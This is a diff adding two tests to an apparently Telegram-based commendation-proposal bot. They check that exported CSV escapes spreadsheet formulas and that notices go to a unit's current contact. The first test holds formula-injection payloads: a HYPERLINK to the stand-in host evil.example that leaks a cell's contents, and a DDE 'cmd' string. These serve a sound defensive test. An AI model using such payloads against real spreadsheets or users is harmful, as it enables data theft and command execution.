@@ -88,4 +88,35 @@ describe.each(providers)('phase review and commendation proposals (%s)', (provid
     expect(csv).toContain('Ông Y Bhông');
     expect(csv).not.toContain('Nguyễn Văn An');
   });
+
+  it('should write what a unit typed into the list as text a spreadsheet never runs', async () => {
+    await contact.say('/dexuat');
+    await propose('Cá nhân', '=HYPERLINK("http://evil.example/?x="&A1,"Xem")', 'Bằng khen của Chủ tịch UBND tỉnh', '@SUM(1+1)*cmd|\' /C calc\'!A0');
+    const proposal = await app.database.db.commendationProposal.findFirstOrThrow({ where: { nomineeName: { startsWith: '=HYPERLINK' } } });
+    await official.say(`/khenthuong duyet ${proposal.id}`);
+    await official.say('/khenthuong danhsach');
+    const file = await app.database.db.storedFile.findFirstOrThrow({ where: { mimeType: 'text/csv' }, orderBy: { createdAt: 'desc' } });
+    const csv = Buffer.from(file.data).toString('utf8');
+    expect(csv).toContain(`"'=HYPERLINK(`);
+    expect(csv).toContain(`"'@SUM(1+1)`);
+    expect(csv).not.toMatch(/(^|,)"?[=@+-]/m);
+  });
+
+  it("should tell a proposal's return to the unit's contacts now, not to a contact revoked since", async () => {
+    const unit = await app.database.db.unit.findFirstOrThrow({ where: { code: 'H_DAK_MIL' } });
+    const successor = new TelegramChat(api, 9102);
+    const code = (await app.database.db.$transaction((tx) => createInvite(tx, { role: 'unit_contact', unitId: unit.id, createdById: null, ttlDays: 14, now: clock.now() }))).code;
+    await successor.say(`/start ${code}`);
+    await successor.waitFor((m) => m.text.includes('Bạn muốn làm gì tiếp theo'));
+    await contact.say('/dexuat');
+    await propose('Tập thể', 'Tổ dân phố 2, thị trấn Đắk Mil', 'Bằng khen của Chủ tịch UBND tỉnh');
+    const proposal = await app.database.db.commendationProposal.findFirstOrThrow({ where: { nomineeName: 'Tổ dân phố 2, thị trấn Đắk Mil' } });
+    // The contact who sent it leaves the unit before the Board answers.
+    const sender = await app.database.db.identity.findFirstOrThrow({ where: { channel: 'telegram', externalId: '9101' } });
+    await app.database.db.roleAssignment.updateMany({ where: { personId: sender.personId, unitId: unit.id }, data: { revokedAt: clock.now() } });
+    const before = contact.messages.length;
+    await official.say(`/khenthuong tra ${proposal.id} Hồ sơ thiếu biên bản họp bình xét`);
+    await successor.waitFor((m) => m.text.includes('Hồ sơ thiếu biên bản họp bình xét'));
+    expect(text(contact.messages.slice(before))).not.toContain('Hồ sơ thiếu biên bản');
+  });
 });
